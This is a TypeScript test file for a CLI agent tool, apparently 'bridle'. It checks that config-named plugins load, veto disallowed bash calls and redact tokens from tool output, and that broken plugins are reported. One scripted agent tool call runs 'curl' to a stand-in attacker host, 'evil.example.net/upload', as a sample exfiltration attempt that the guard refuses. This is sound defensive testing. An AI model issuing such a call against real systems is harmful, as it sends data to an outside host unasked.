import { copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { chatRequests, startModelServer } from '../fixtures/model-server/server.js'
import type { ModelServer } from '../fixtures/model-server/server.js'
import { cliArgv, runCli } from '../fixtures/cli.js'

const examplePlugin = join(import.meta.dirname, '../../resources/plugins/example-plugin.mjs')

let home: string
let project: string
let server: ModelServer | undefined

beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'bridle-plugins-'))
  project = join(home, 'project')
  mkdirSync(project)
})

afterEach(async () => {
  await server?.close()
  server = undefined
  rmSync(home, { recursive: true, force: true })
})

const bash = (id: string, command: string) => ({
  toolCall: { id, name: 'bash', args: JSON.stringify({ command }) },
})

type JsonEvent = { type: string; data: Record<string, unknown> }
const eventsOf = (stdout: string): JsonEvent[] =>
  stdout
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as JsonEvent)

const writeConfig = (config: Record<string, unknown>) =>
  writeFileSync(join(home, 'config.json'), JSON.stringify(config))

const runArgv = (url: string, ...extra: string[]) =>
  cliArgv(
    { home, project },
    'run',
    ...extra,
    '--approval',
    'full-auto',
    '--base-url',
    url,
    '--model',
    'scripted',
    'go',
  )

describe('plugins named in config.json, through `bridle run`', () => {
  it('loads the example plugin from a path relative to the data folder: curl to an unlisted host is refused before it runs, and a token is redacted from the output the model sees', async () => {
    mkdirSync(join(home, 'plugins'))
    copyFileSync(examplePlugin, join(home, 'plugins', 'example-plugin.mjs'))
    writeConfig({ plugins: ['plugins/example-plugin.mjs'] })
    // Built here, and plainly fake, so no scanner takes it for a leaked key.
    const token = `sk-${'not-a-real-key-'.repeat(2)}`
    server = await startModelServer({
      script: [
        {
          steps: [
            bash('c1', 'touch fetched.txt && curl -s https://evil.example.net/upload'),
            bash('c2', `echo key=${token}`),
            { finish: 'tool_calls' },
          ],
        },
        'Done.',
      ],
    })

    const { status, stdout } = await runCli(runArgv(server.url, '--json'))

    expect(status).toBe(0)
    const events = eventsOf(stdout)
    const results = events.filter((e) => e.type === 'tool/result').map((e) => e.data)
    expect(results[0]).toMatchObject({ callId: 'c1', ok: false, error: { code: 'GUARD_DENIED' } })
    expect((results[0]?.error as { message: string }).message).toContain(
      'The plugin "example-plugin" refused this bash call: curl may reach only localhost, 127.0.0.1, example.com, not evil.example.net. It did not run',
    )
    expect(existsSync(join(project, 'fetched.txt'))).toBe(false)
    expect(results[1]).toMatchObject({ callId: 'c2', ok: true, output: 'key=[redacted]\n' })
    // The vetoed call never became a tool/call; the token is in no result (only in the model's own call).
    expect(events.filter((e) => e.type === 'tool/call').map((e) => e.data.callId)).toEqual(['c2'])
    expect(JSON.stringify(results)).not.toContain(token)
    expect(events.filter((e) => e.type === 'notice').map((e) => e.data)).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          code: 'PLUGINS_LOADED',
          message: expect.stringContaining(join(home, 'plugins', 'example-plugin.mjs')) as string,
        }),
        expect.objectContaining({
          code: 'PLUGIN_NOTICE',
          message: 'example-plugin redacted 1 token from the output of bash',
        }),
      ]),
    )
    // What the model was sent back: the refusal and the redacted output, never the token.
    const sent = (
      chatRequests(server)[1]?.body as { messages: { role: string; content: string | null }[] }
    ).messages
      .filter((message) => message.role === 'tool')
      .map((message) => message.content)
    expect(sent).toEqual([
      expect.stringContaining('GUARD_DENIED') as unknown,
      expect.stringContaining('key=[redacted]') as unknown,
    ])
    expect(JSON.stringify(sent)).not.toContain(token)
  })

  it('refuses to run with a plugin that cannot load, saying which file and why, and logs it', async () => {
    writeConfig({ plugins: [examplePlugin, 'plugins/missing.mjs'] })
    server = await startModelServer({
      script: [{ steps: [bash('c1', 'touch ran.txt'), { finish: 'tool_calls' }] }, 'Done.'],
    })

    const plain = await runCli(runArgv(server.url))

    expect(plain.status).toBe(1)
    expect(plain.stderr).toContain(
      `bridle: the plugin ${join(home, 'plugins', 'missing.mjs')} cannot be read: there is no such file`,
    )
    expect(plain.stderr).toContain('remove it from "plugins" in config.json')
    expect(chatRequests(server)).toHaveLength(0)

    const json = await runCli(runArgv(server.url, '--json'))
    expect(json.status).toBe(1)
    const errors = eventsOf(json.stdout).filter((e) => e.type === 'error')
    expect(errors).toEqual([
      expect.objectContaining({
        data: expect.objectContaining({
          scope: 'session',
          code: 'PLUGIN_LOAD_FAILED',
          message: expect.stringContaining('missing.mjs cannot be read') as string,
        }) as unknown,
      }),
    ])
    expect(existsSync(join(project, 'ran.txt'))).toBe(false)
  })

  it('names a plugin whose setup throws', async () => {
    mkdirSync(join(home, 'plugins'))
    writeFileSync(
      join(home, 'plugins', 'broken.mjs'),
      `export default { name: 'broken', setup() { throw new Error('no allow-list configured') } }`,
    )
    writeConfig({ plugins: ['plugins/broken.mjs'] })
    server = await startModelServer({ script: ['Done.'] })

    const { status, stderr } = await runCli(runArgv(server.url))

    expect(status).toBe(1)
    expect(stderr).toContain(
      `the plugin ${join(home, 'plugins', 'broken.mjs')} failed in its setup: no allow-list configured`,
    )
  })
})
